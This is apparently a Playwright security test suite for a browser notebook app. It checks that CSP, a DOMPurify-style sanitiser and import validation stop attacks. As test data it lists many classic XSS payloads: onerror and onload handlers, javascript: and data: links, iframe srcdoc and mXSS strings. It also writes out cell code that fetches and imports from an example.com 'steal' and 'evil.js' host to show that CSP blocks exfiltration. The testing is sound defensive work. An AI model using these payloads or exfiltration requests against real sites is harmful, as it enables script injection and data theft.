// The hostile suite, part 1 (issue 11): the page. Content-Security-Policy, untrusted Markdown and
// notebook outputs, the untrusted notice on an imported notebook, garbage knobs, the test page kept
// out of dist/, and a page without cross-origin isolation. Each attack starts from a page where a
// cell was just edited and ends by checking the message, that the page answers and the edit is kept.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from '../fixtures';
import { KERNEL_CSP, META_CSP, PAGE_CSP } from '../../src/csp';
import { codeCell, editorReady, openLesson, setSource, withoutIsolation } from '../helpers';
import { editBeforeAttack, expectEditKept, expectResponsive, marker } from './common';

type Violation = { directive: string; blocked: string };

/** Records every CSP violation the page reports (securitypolicyviolation on the document). */
async function watchViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: { directive: string; blocked: string }[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return () => page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp);
}

async function importNotebook(page: Page, name: string, nb: unknown): Promise<void> {
  await page.getByTestId('import-file').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(nb)) });
  await expect(page).toHaveURL(/#\/(es|en)\/imported/);
  await expect(page.getByTestId('notebook')).toBeVisible();
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

test('CSP: a cell\'s fetch, import() and importScripts to another origin are refused by the kernel worker\'s policy', async ({ page }) => {
  const kernelCsp: string[] = [];
  page.on('response', async (r) => { if (/kernel\.worker/.test(r.url())) kernelCsp.push((await r.headerValue('content-security-policy')) ?? ''); });
  const mark = marker('csp_fetch');
  await editBeforeAttack(page, mark, 'en');
  const cell = codeCell(page, 1);
  // Two walls. The kernel refuses another origin itself, with a message (fetch, importScripts); the
  // policy is the real wall under it: import() meets it directly, and so does a fetch from a worker
  // the cell makes (a blob: worker inherits the kernel's policy and has no friendly wrapper). The
  // violation reports prove the refusal is the policy's: this machine has no network, so a plain
  // fetch would fail anyway.
  await setSource(page, cell, [
    "const seen = [];",
    "self.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective + ' ' + e.blockedURI));",
    "const tries = [];",
    "try { await fetch('https://example.com/steal?d=1'); tries.push('fetch ok'); } catch (e) { tries.push('fetch ' + e.name); seen.push(e.message); }",
    "try { await import('https://example.com/evil.js'); tries.push('import ok'); } catch (e) { tries.push('import ' + e.name); }",
    "try { importScripts('https://example.com/evil.js'); tries.push('importScripts ok'); } catch (e) { tries.push('importScripts ' + e.name); }",
    "const src = \"self.addEventListener('securitypolicyviolation', (e) => postMessage('nested ' + e.effectiveDirective + ' ' + e.blockedURI)); fetch('https://example.com/steal?d=2').then(() => postMessage('nested fetch ok'), (e) => postMessage('nested fetch ' + e.name));\";",
    "const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));",
    "const nested = [];",
    "await new Promise((r) => { w.onmessage = (e) => { nested.push(e.data); if (nested.length === 2) r(); }; setTimeout(r, 5000); });",
    "w.terminate();",
    "await new Promise((r) => setTimeout(r, 200));",
    "show.text(tries.join(' | '));",
    "show.text(seen.join(' | '));",
    "show.text(nested.sort().join(' | '));",
  ].join('\n'));
  await cell.getByTestId('run-cell').click();
  await expect(cell).toHaveAttribute('data-status', 'idle', { timeout: 60_000 });
  const texts = cell.getByTestId('out-text');
  await expect(texts.first()).toHaveText('fetch SecurityError | import TypeError | importScripts SecurityError');
  await expect(texts.nth(1)).toContainText('https://example.com/steal?d=1 was refused'); // the kernel's own message
  await expect(texts.nth(1)).toContainText('script-src-elem https://example.com/evil.js'); // import(): the policy
  await expect(texts.nth(2)).toHaveText('nested connect-src https://example.com/steal?d=2 | nested fetch TypeError'); // the policy, under the wrapper
  // the kernel worker's script carries its own policy: the page's, plus eval for running cells
  expect(kernelCsp[0]).toBe(KERNEL_CSP);
  expect(KERNEL_CSP).toContain("connect-src 'self'");
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('CSP: the page sends the strict policy (header and <meta>); an injected inline script and handler do not run; a normal lesson loads with no violation', async ({ page }) => {
  const violations = await watchViolations(page);
  const mark = marker('csp_inline');
  const [doc] = await Promise.all([page.waitForResponse((r) => r.request().resourceType() === 'document'), editBeforeAttack(page, mark, 'en', '02')]);
  expect(await doc.headerValue('content-security-policy')).toBe(PAGE_CSP);
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(META_CSP);
  expect(PAGE_CSP).not.toMatch(/'unsafe-eval'/);
  expect(PAGE_CSP).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
  // lesson 2 has KaTeX math and Monaco is up: nothing the app itself does is refused
  await expect(page.locator('.katex').first()).toBeVisible();
  expect(await violations()).toEqual([]);

  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "inline script"';
    document.head.append(s);
    const d = document.createElement('div');
    d.innerHTML = '<img src="/favicon.svg?x" onload="window.__pwned = \'inline handler\'">';
    document.body.append(d);
  });
  await expect.poll(async () => (await violations()).map((v) => v.directive)).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
  expect(await pwned(page)).toBeUndefined();
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('CSP: a lesson that trains on every backend and charts (lesson 3, quick mode) raises no violation on the page or in its workers', async ({ page }) => {
  test.setTimeout(400_000);
  const violations = await watchViolations(page);
  const refused: string[] = [];
  page.on('console', (m) => { if (/Content.Security.Policy/i.test(m.text())) refused.push(m.text().slice(0, 300)); });
  await page.goto('/?samples=3000#/en/03');
  await expect(page.getByTestId('notebook')).toBeVisible();
  const cells = page.getByTestId('code-cell');
  await editorReady(cells.first());
  await page.getByTestId('run-all').click();
  const n = await cells.count();
  for (let i = 0; i < n; i++) await expect(cells.nth(i), `cell ${i + 1}`).toHaveAttribute('data-result', 'ok', { timeout: 300_000 });
  await expect(page.locator('.recharts-surface').first()).toBeVisible();
  expect(await violations()).toEqual([]);
  expect(refused).toEqual([]);
});

test('the sanitiser (DOMPurify as the page configures it) removes every classic payload', async ({ page }) => {
  await page.goto('/harness.html');
  await expect(page.locator('#status')).toHaveText('harness ready');
  const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
  const payloads = [
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=2"><circle r="1"/></svg>',
    '<svg><script>window.__pwned=3</script></svg>',
    '<svg><a xlink:href="javascript:window.__pwned=4"><text y="10">x</text></a></svg>',
    '<a href="javascript:window.__pwned=5">x</a>',
    '<a href=" jAvAsCrIpT:window.__pwned=6">x</a>',
    '<a href="data:text/html,<script>window.__pwned=7</script>">x</a>',
    '<iframe src="javascript:window.__pwned=8"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=9</script>"></iframe>',
    '<object data="data:text/html,<script>window.__pwned=10</script>"></object>',
    '<embed src="data:text/html,x">',
    '<form action="https://example.com/"><button formaction="javascript:window.__pwned=11">go</button></form>',
    '<img src="data:image/svg+xml,<svg onload=window.__pwned=12>">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=13">',
    '<style>@import "https://example.com/x.css"</style><p>styled</p>',
    '<base href="https://example.com/"><meta http-equiv="refresh" content="0;url=javascript:window.__pwned=14">',
    '<div id="harness" name="status">clobber</div>',
    `<img src="${png}" alt="dot">`,
  ];
  const out = await page.evaluate((ps) => Promise.all(ps.map((p) => window.harness.sanitizeHtml(p))), payloads);
  for (const [i, html] of out.entries()) {
    const p = payloads[i];
    expect(html, p).not.toMatch(/\son[a-z]+\s*=|javascript:|<script|<iframe|<object|<embed|<form|<button|<style|<base|<meta|data:text|data:image\/svg|xlink:href/i);
  }
  expect(out.at(-1)).toContain(png); // a raster data: image is kept
  expect(out[16]).not.toContain('id="harness"'); // named properties are prefixed (no DOM clobbering)
  // inserted into the page, nothing runs
  await page.evaluate((hs) => { const d = document.createElement('div'); d.innerHTML = hs.join(''); document.body.append(d); }, out);
  await page.waitForTimeout(300);
  expect(await pwned(page)).toBeUndefined();
  // Markdown as a cell renders it: KaTeX's \href with trust off, javascript:/data: links, attachments
  const md = await page.evaluate(() => Promise.all([
    window.harness.markdownHtml('$\\href{javascript:window.__pwned=20}{k}$ and $x^2$'),
    window.harness.markdownHtml('[a](javascript:window.__pwned=21) [b](data:text/html,<script>x</script>) [c](vbscript:x) <img src=x onerror=alert(1)>'),
    window.harness.markdownHtml('![plot](attachment:plot.png) ![ok](https://example.com/x.png)'),
  ]));
  expect(md[0]).toContain('class="katex"');
  for (const h of md) expect(h).not.toMatch(/(href|src)="\s*(javascript|data|vbscript):|<img[^>]*onerror/i);
  expect(md[2]).toContain('📎 plot.png');
  expect(md[2]).not.toContain('attachment:');
});

test('the sanitiser keeps every lesson\'s own Markdown as it was (KaTeX, SVG, tables, links)', async ({ page }) => {
  await page.goto('/harness.html');
  await expect(page.locator('#status')).toHaveText('harness ready');
  const dir = join(process.cwd(), 'src', 'lessons');
  const sources = ['es', 'en'].flatMap((l) => readdirSync(join(dir, l)).filter((f) => f.endsWith('.md')).map((f) => readFileSync(join(dir, l, f), 'utf8')));
  const diffs = await page.evaluate(async (srcs) => {
    // both parsed inertly and serialised the same way; the sanitiser adds rel="noopener…" to links
    const norm = (html: string) => {
      const doc = new DOMParser().parseFromString(html, 'text/html');
      for (const a of doc.querySelectorAll('a')) a.removeAttribute('rel');
      return doc.body.innerHTML;
    };
    const out: string[] = [];
    for (const src of srcs) {
      const [raw, safe] = await Promise.all([window.harness.markdownHtml(src, { sanitize: false }), window.harness.markdownHtml(src)]);
      if (norm(safe) !== norm(raw)) out.push(src.slice(0, 40));
    }
    return out;
  }, sources);
  expect(sources.length).toBeGreaterThanOrEqual(12);
  expect(diffs).toEqual([]);
});

test('untrusted Markdown and outputs in an imported notebook never run: payloads are inert, HTML/SVG/JS outputs are shown as text', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const mark = marker('sanitise');
  await editBeforeAttack(page, mark, 'en');
  const nb = {
    nbformat: 4, nbformat_minor: 5, metadata: { paralelo: { lang: 'en', title: 'payloads' } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: ['# Payloads\n', 'a <img src=x onerror="window.__pwned=\'img\'"> b <svg onload="window.__pwned=\'svg\'"></svg>\n\n', '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe> <script>window.__pwned=\'script\'</script>\n\n'] },
      { cell_type: 'markdown', metadata: {}, source: '[click](javascript:window.__pwned=\'link\') [data](data:text/html,<script>window.__pwned=1</script>) $\\href{javascript:window.__pwned=\'katex\'}{k}$ ![plot](attachment:plot.png)', attachments: { 'plot.png': { 'image/png': 'iVBORw0KGgo=' } } },
      {
        cell_type: 'code', metadata: {}, source: 'show.text("RAN")', execution_count: 3, outputs: [
          { output_type: 'display_data', metadata: {}, data: { 'text/html': '<img src=x onerror="window.__pwned=\'html\'">' } },
          { output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'svgout\'"/>' } },
          { output_type: 'display_data', metadata: {}, data: { 'application/javascript': 'window.__pwned = "js"' } },
          { output_type: 'execute_result', metadata: {}, execution_count: 3, data: { 'text/html': '<script>window.__pwned="both"</script>', 'text/plain': 'plain version' } },
        ],
      },
    ],
  };
  await importNotebook(page, 'payloads.ipynb', nb);
  const notebook = page.getByTestId('notebook');
  await expect(notebook.getByTestId('markdown-cell').first()).toContainText('onerror');
  await expect(notebook.locator('script, iframe, object, embed, form, [onerror], [onload], a[href^="javascript:"], a[href^="data:"], img[src^="attachment:"]')).toHaveCount(0);
  await expect(notebook.locator('.md-attachment')).toHaveText('📎 plot.png');
  const cell = codeCell(page, 0);
  const outs = cell.getByTestId('outputs');
  await expect(outs.locator('pre.out-code').nth(0)).toHaveText('<img src=x onerror="window.__pwned=\'html\'">');
  await expect(outs.locator('pre.out-code').nth(1)).toContainText('<svg xmlns');
  await expect(outs.locator('pre.out-code').nth(2)).toHaveText('window.__pwned = "js"');
  await expect(cell.getByTestId('out-text')).toHaveText('plain version');
  const notes = page.getByTestId('import-notes');
  await expect(notes).toContainText('code cell 1: an output of type text/html is shown as text, never rendered');
  await expect(notes).toContainText('code cell 1: an output of type text/html is not shown');
  await page.waitForTimeout(500);
  expect(await pwned(page)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(requests.filter((u) => u.startsWith('attachment:') || u.includes('example.com'))).toEqual([]);
  await expectResponsive(page);
  await expectEditKept(page, mark, { reload: true, lang: 'en' });
});

test('an imported notebook is marked untrusted until its code runs; nothing runs on import (es, then en)', async ({ page }) => {
  const mark = marker('untrusted');
  await editBeforeAttack(page, mark, 'es');
  const nb = {
    nbformat: 4, nbformat_minor: 5, metadata: { paralelo: { lang: 'es', title: 'de un compañero' } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: '# De un compañero' },
      { cell_type: 'code', metadata: {}, source: 'show.text("SE EJECUTÓ")', execution_count: null, outputs: [] },
    ],
  };
  await importNotebook(page, 'companero.ipynb', nb);
  const notice = page.getByTestId('import-notice');
  await expect(notice).toHaveText('Importado de companero.ipynb: nada de él se ha ejecutado; su código solo se ejecuta cuando pulsas Ejecutar.');
  await expect(notice).toHaveAttribute('data-ran', 'false');
  const cell = codeCell(page, 0);
  await page.waitForTimeout(1000);
  await expect(cell).toHaveAttribute('data-status', 'idle');
  await expect(cell.getByTestId('outputs')).toHaveText('');
  await page.getByTestId('lang-switch').selectOption('en');
  await expect(notice).toHaveText('Imported from companero.ipynb: nothing in it has run; its code runs only when you press Run.');
  await expect(codeCell(page, 0).getByTestId('outputs')).toHaveText('');
  // the student runs it: the notice changes, and stays changed across a language switch
  await codeCell(page, 0).getByTestId('run-cell').click();
  await expect(codeCell(page, 0).getByTestId('out-text')).toHaveText('SE EJECUTÓ');
  await expect(notice).toHaveAttribute('data-ran', 'true');
  await expect(notice).toContainText('Imported from companero.ipynb: you have run its code in this session.');
  await page.getByTestId('lang-switch').selectOption('es');
  await expect(notice).toContainText('Importado de companero.ipynb: has ejecutado su código en esta sesión.');
  // a lesson of the app has no such notice
  await openLesson(page, 'es', '01');
  await expect(page.getByTestId('import-notice')).toHaveCount(0);
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('garbage knobs in an imported cell\'s metadata are dropped with a note (es/en); the valid ones are kept', async ({ page }) => {
  const mark = marker('knobs');
  await editBeforeAttack(page, mark, 'en');
  const nb = {
    nbformat: 4, nbformat_minor: 5, metadata: { paralelo: { lang: 'en' } },
    cells: [
      { cell_type: 'code', metadata: { paralelo: { knobs: { batchSize: 0, learningRate: 'NaN', backend: 'evil', epochs: 2, workers: 64, mode: 'naive', evil: { x: 1 } } } }, source: 'knobs', outputs: [] },
      { cell_type: 'code', metadata: { paralelo: { knobs: [1, 2, 3] } }, source: 'knobs', outputs: [] },
    ],
  };
  await importNotebook(page, 'knobs.ipynb', nb);
  const notes = page.getByTestId('import-notes');
  await expect(notes).toContainText('code cell 1: batchSize must be an integer between 1 and 60000, got 0; dropped, the default is used');
  await expect(notes).toContainText('code cell 1: learningRate must be a finite number in (0, 10], got "NaN"; dropped');
  await expect(notes).toContainText('code cell 1: backend must be one of js, workers, wasm, webgpu, got "evil"; dropped');
  await expect(notes).toContainText('code cell 1: workers must be an integer between 1 and 16, got 64; dropped');
  await expect(notes).toContainText('code cell 1: unknown setting "evil" dropped');
  await expect(notes).toContainText('code cell 2: its settings are not an object; dropped');
  const cell = codeCell(page, 0);
  await expect(cell.getByTestId('knob-batch')).toHaveValue('32');
  await expect(cell.getByTestId('knob-epochs')).toHaveValue('2');
  await expect(cell.getByTestId('knob-backend')).toHaveValue('js');
  // the cell runs with what was kept
  await cell.getByTestId('run-cell').click();
  await expect(cell).toHaveAttribute('data-result', 'ok', { timeout: 60_000 });
  await expect(cell.getByTestId('outputs')).toContainText('"epochs": 2');
  await page.getByTestId('lang-switch').selectOption('es');
  await expect(notes).toContainText('celda de código 1: batchSize debe ser');
  await expectResponsive(page);
  await expectEditKept(page, mark, { reload: true, lang: 'en' });
});

test('dist/ (what ships) has no harness.html and no harness code, TF.js only as chunks loaded by tfjs.* (lesson 11); its index.html carries the policy', () => {
  const dist = join(process.cwd(), 'dist');
  expect(existsSync(join(dist, 'index.html'))).toBe(true);
  expect(existsSync(join(dist, 'harness.html'))).toBe(false);
  expect(existsSync(join(dist, 'tfjs-wasm', 'tfjs-backend-wasm-simd.wasm'))).toBe(true); // tfjs.train({ backend: 'wasm' })
  const assets = readdirSync(join(dist, 'assets'));
  expect(assets.filter((f) => /^harness/i.test(f))).toEqual([]);
  // TF.js is a dynamic import of a cell that calls tfjs.*: neither the page's entry nor the kernel worker carries it
  const eager = assets.filter((f) => /^(main|kernel\.worker)-.*\.js$/.test(f));
  expect(eager).toHaveLength(2);
  for (const f of eager) expect(readFileSync(join(dist, 'assets', f), 'utf8'), f).not.toContain('fitDataset');
  expect(assets.some((f) => f.endsWith('.js') && readFileSync(join(dist, 'assets', f), 'utf8').includes('fitDataset')), 'a lazy TF.js chunk').toBe(true);
  const html = readFileSync(join(dist, 'index.html'), 'utf8').replaceAll('&#39;', "'");
  expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${META_CSP}">`);
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/); // no inline script
});

test('not cross-origin isolated (a static host without COOP/COEP): threads fall back, the page says why, and a lesson\'s training cell runs', async ({ page }) => {
  test.setTimeout(300_000);
  await withoutIsolation(page);
  const mark = marker('isolation');
  await editBeforeAttack(page, mark, 'es', '05');
  expect(await page.evaluate(() => globalThis.crossOriginIsolated)).toBe(false);
  await page.goto('/?samples=2000#/es/05');
  await expect(page.getByTestId('notebook')).toBeVisible();
  // the page says why threads fall back
  await expect(page.getByTestId('isolation-notice')).toContainText('no tiene aislamiento de origen cruzado');
  await expect(page.getByTestId('isolation-notice')).toContainText('wasm usa su versión de un solo hilo');
  // lesson 5, "1 thread vs 4 threads": both train (on the single-thread build) and agree
  const cell = codeCell(page, 3);
  await editorReady(cell);
  await cell.getByTestId('run-cell').click();
  await expect(cell).toHaveAttribute('data-result', 'ok', { timeout: 240_000 });
  await expect(cell.getByTestId('out-table')).toBeVisible();
  await expect(cell.getByTestId('out-text').last()).toHaveText('pérdidas idénticas');
  // what the run used, as train() describes it: the fallback, with its reason
  const other = codeCell(page, 1);
  await setSource(page, other, "const r = await train({ backend: 'wasm', threads: 4, samples: 2000, chart: false, evaluate: false });\nshow.text(r.describe)");
  await other.getByTestId('run-cell').click();
  await expect(other).toHaveAttribute('data-result', 'ok', { timeout: 120_000 });
  await expect(other.getByTestId('out-text').last()).toContainText('cabeceras COOP/COEP');
  await expect(cell.getByTestId('out-error')).toHaveCount(0);
  await expectResponsive(page);
  await expectEditKept(page, mark, { reload: true, lang: 'es', lesson: '05' });
});
